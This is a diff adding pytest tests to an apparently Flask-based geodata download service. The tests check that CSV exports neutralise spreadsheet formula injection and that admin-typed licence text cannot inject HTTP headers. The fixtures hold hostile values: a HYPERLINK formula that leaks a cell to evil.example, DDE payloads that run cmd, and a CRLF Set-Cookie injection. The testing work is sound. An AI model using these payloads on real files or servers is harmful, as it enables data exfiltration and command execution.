@@ -107,3 +107,72 @@ def test_bad_downloads(client, url, status):
     r = client.get(url, headers={"Accept": "application/json"})
     assert r.status_code == status
     assert "Traceback" not in r.get_data(as_text=True)
+
+
+#: Text that spreadsheet programs run as a formula (OWASP "CSV Injection"), and plain text.
+HOSTILE_TEXT = [
+    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0",
+    "+39 0372 1",
+    "-2+3",
+    "\tcon tab",
+    "\rcon ritorno",
+    "Piazza del Comune",
+]
+
+
+def test_csv_download_neutralises_formulas_and_keeps_numbers(app, client, spec):
+    """Text cells that start like a formula get a leading ', numeric fields stay numbers."""
+    import csv
+
+    import shapely
+
+    from tests.conftest import punti_frame
+
+    n = len(HOSTILE_TEXT)
+    data = punti_frame(
+        [shapely.Point(10.0 + i / 100, 45.1) for i in range(n)],
+        nome=HOSTILE_TEXT,
+        posti=[-5] * n,
+        punteggio=[-1.5] * n,
+    )
+    app.extensions["geoportale"].store.write_layer(spec("punti"), data)
+    r = client.get("/download/punti.csv")
+    assert r.status_code == 200
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(r.get_data(as_text=True)))}
+    names = [rows[f"n{i + 1}"]["nome"] for i in range(n)]
+    assert names == ["'" + t for t in HOSTILE_TEXT[:-1]] + ["Piazza del Comune"]
+    assert {row["posti"] for row in rows.values()} == {"-5"}
+    assert {float(row["punteggio"]) for row in rows.values()} == {-1.5}
+
+
+@pytest.mark.parametrize(
+    "licence, link",
+    [
+        ("CC-BY-4.0\r\nSet-Cookie: rubato=1", None),
+        (
+            "https://example.org/licenza\r\nSet-Cookie: rubato=1",
+            "<https://example.org/licenza%0D%0ASet-Cookie:%20rubato=1>",
+        ),
+        ("CC0-1.0", "<https://creativecommons.org/publicdomain/zero/1.0/>"),
+    ],
+)
+def test_licence_with_line_breaks_downloads_without_header_injection(
+    app, client, monkeypatch, licence, link
+):
+    """A licence is admin-typed text: it may hold CR/LF. The download still works, no header
+    is added by it, and `Link: rel="license"` carries a URI only (percent-encoded)."""
+    svc = app.extensions["geoportale"]
+    spec = svc.registry.get("punti")
+    odd = spec.model_copy(
+        update={"metadata": spec.metadata.model_copy(update={"licence": licence})}
+    )
+    monkeypatch.setattr(svc, "layer", lambda layer_id: odd)
+    for fmt in FORMATS:
+        r = client.get(f"/download/punti.{fmt}")
+        assert r.status_code == 200, (fmt, r.data[:300])
+        assert "Set-Cookie" not in r.headers
+        for value in r.headers.values():
+            assert "\r" not in value and "\n" not in value
+        assert r.headers.get("Link") == (link and f'{link}; rel="license"')
